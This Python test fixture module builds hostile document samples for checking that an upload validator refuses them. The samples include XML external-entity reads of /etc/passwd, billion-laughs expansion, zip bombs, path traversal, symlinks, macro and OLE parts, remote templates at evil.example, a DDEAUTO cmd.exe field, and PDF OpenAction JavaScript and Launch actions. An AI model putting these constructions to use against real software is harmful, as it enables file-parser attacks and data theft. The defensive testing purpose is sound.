"""Files built to do harm, made here so that none has to be kept."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
    'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="{kind}"/>{more}</Types>'
)
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/officeDocument" Target="{part}"/></Relationships>'
)
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def archive(parts: Mapping[str, str | bytes]) -> bytes:
    """Return a zip container."""
    place = io.BytesIO()
    with zipfile.ZipFile(place, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return place.getvalue()


def docx(
    body: str = "<w:p><w:r><w:t>Budget: 100</w:t></w:r></w:p>",
    *,
    before: str = "",
    kind: str = WORD,
    more: Mapping[str, str | bytes] | None = None,
) -> bytes:
    """Return a Word document with a body."""
    document = f'{before}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return archive(
        {
            "[Content_Types].xml": CONTENT_TYPES.format(
                part="word/document.xml", kind=kind, more=""
            ),
            "_rels/.rels": RELS.format(part="word/document.xml"),
            "word/document.xml": document,
            **(more or {}),
        }
    )


def xlsx(rows: str, *, before: str = "") -> bytes:
    """Return a workbook of one sheet."""
    return archive(
        {
            "[Content_Types].xml": CONTENT_TYPES.format(
                part="xl/workbook.xml",
                kind=SHEETS,
                more='<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
                'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>',
            ),
            "_rels/.rels": RELS.format(part="xl/workbook.xml"),
            "xl/workbook.xml": f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets>'
            '<sheet name="Budget" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": f'{before}<worksheet xmlns="{S}"><sheetData>{rows}'
            "</sheetData></worksheet>",
        }
    )


def cell(place: str, value: object) -> str:
    """Return a cell with a number."""
    return f'<c r="{place}"><v>{value}</v></c>'


def relations(target: str, kind: str) -> str:
    """Return relations of the main part that lead outside."""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r9" Type="{R}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )


def pdf(catalogue: str, more: str = "") -> bytes:
    """Return a PDF document of one empty page, with entries of our own in its catalogue."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>",
        *([more] if more else []),
    ]
    out, offsets = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{text}\nendobj\n".encode()
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010} 00000 n \n".encode() for offset in offsets)
    out += f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\n".encode()
    return out + f"startxref\n{start}\n%%EOF\n".encode()


def overlapping() -> bytes:
    """Return a container of two names for the same bytes."""
    data = bytearray(docx(more={"word/a.xml": "<a/>", "word/b.xml": "<a/>"}))
    first = data.index(b"PK\x03\x04")
    places = [i for i in range(len(data)) if data[i : i + 4] == b"PK\x01\x02"]
    struct.pack_into("<I", data, places[-1] + 42, first)
    return bytes(data)


def lying_about_size() -> bytes:
    """Return a container whose directory says that a large part is small."""
    data = bytearray(docx("<w:p/>" * 400_000))
    place = [i for i in range(len(data)) if data[i : i + 4] == b"PK\x01\x02"][2]
    struct.pack_into("<I", data, place + 24, 100)
    return bytes(data)


def twice() -> bytes:
    """Return a container with two parts of the same name."""
    return docx(more={"word/Document.xml": "<a/>"})


def linking() -> bytes:
    """Return a container with a symbolic link."""
    place = io.BytesIO(docx())
    with zipfile.ZipFile(place, "a") as made:
        entry = zipfile.ZipInfo("word/link")
        entry.external_attr = 0o120777 << 16
        made.writestr(entry, "/etc/passwd")
    return place.getvalue()


DOCTYPE = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

REFUSED: Mapping[str, Callable[[], bytes]] = {
    "empty.docx": lambda: b"",
    "external-entity.docx": lambda: docx(before=DOCTYPE),
    "billion-laughs.xlsx": lambda: xlsx("", before=LAUGHS),
    "billion-laughs.xml": (LAUGHS + "<Project>&b;</Project>").encode,
    "deep.docx": lambda: docx("<w:p>" * 5000 + "</w:p>" * 5000),
    "deep.xml": lambda: b"<Project>" + b"<Task>" * 200_000,
    "zip-bomb.docx": lambda: docx(more={"word/media/a.xml": b"0" * (80 << 20)}),
    "ratio.docx": lambda: docx(more={"word/media/a.xml": b"0" * (20 << 20)}),
    "sparse.xlsx": lambda: xlsx(
        f'<row r="1">{cell("A1", 1)}</row><row r="1048576">{cell("XFD1048576", 1)}</row>'
    ),
    "many-parts.docx": lambda: docx(more={f"word/{n}.xml": "<a/>" for n in range(2500)}),
    "overlap.docx": overlapping,
    "size-lie.docx": lying_about_size,
    "twice.docx": twice,
    "symbolic-link.docx": linking,
    "traversal.docx": lambda: docx(more={"../../evil.xml": "<a/>"}),
    "absolute.docx": lambda: docx(more={"/evil.xml": "<a/>"}),
    "backslash.docx": lambda: docx(more={"word\\..\\evil.xml": "<a/>"}),
    "macros.docx": lambda: docx(more={"word/vbaProject.bin": OLE}),
    "docm-renamed.docx": lambda: docx(kind=WORD_MACROS),
    "active-x.docx": lambda: docx(more={"word/activeX/activeX1.bin": b"x"}),
    "object.docx": lambda: docx(more={"word/embeddings/oleObject1.bin": OLE}),
    "template.docx": lambda: docx(
        more={
            "word/_rels/document.xml.rels": relations("https://evil.example/t", "attachedTemplate")
        }
    ),
    "picture-from-outside.docx": lambda: docx(
        more={"word/_rels/document.xml.rels": relations("https://evil.example/p", "oleObject")}
    ),
    "dde.docx": lambda: docx(
        "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
    ),
    "old-word.doc": lambda: OLE + bytes(4096),
    "old-word-renamed.docx": lambda: OLE + bytes(4096),
    "polyglot.pdf": lambda: b"%PDF-1.4\n%%EOF\n" + docx(),
    "plain-archive.docx": lambda: archive({"notes.txt": "hello"}),
    "truncated.docx": lambda: docx()[:-30],
    "script.pdf": lambda: pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "script-in-hex.pdf": lambda: pdf("/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>"),
    "launch.pdf": lambda: pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "embedded.pdf": lambda: pdf(
        "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
        "<< /Type /Filespec /F (a.exe) /EF << /F 3 0 R >> >>",
    ),
    "picture.docx": lambda: b"\x89PNG\r\n\x1a\n" + bytes(64),
    "rich-text.rtf": lambda: b"{\\rtf1 hello}",
    "program.exe": lambda: b"MZ" + bytes(range(256)) * 8,
    "page.svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>',
}
"""What must come back refused, by the name under which it is handed in."""
